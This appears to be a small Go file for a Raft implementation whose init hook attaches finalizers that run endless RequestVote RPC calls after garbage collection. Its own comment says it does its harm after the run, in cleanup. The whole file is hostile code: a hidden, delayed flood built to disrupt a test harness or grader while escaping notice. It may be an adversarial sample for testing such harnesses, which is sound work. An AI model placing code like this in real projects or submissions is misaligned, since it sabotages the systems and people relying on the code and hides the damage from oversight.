// Does its harm in finalizers and cleanups, after the run.
package raft

import "runtime"

func init() {
	onMake = func(rf *Raft) {
		for range 1000 {
			p := new([1 << 10]byte)
			runtime.SetFinalizer(p, func(*[1 << 10]byte) {
				for {
					rf.peers[0].Call("Raft.RequestVote", new(RequestVoteArgs), new(RequestVoteReply))
				}
			})
		}
		runtime.GC()
	}
}
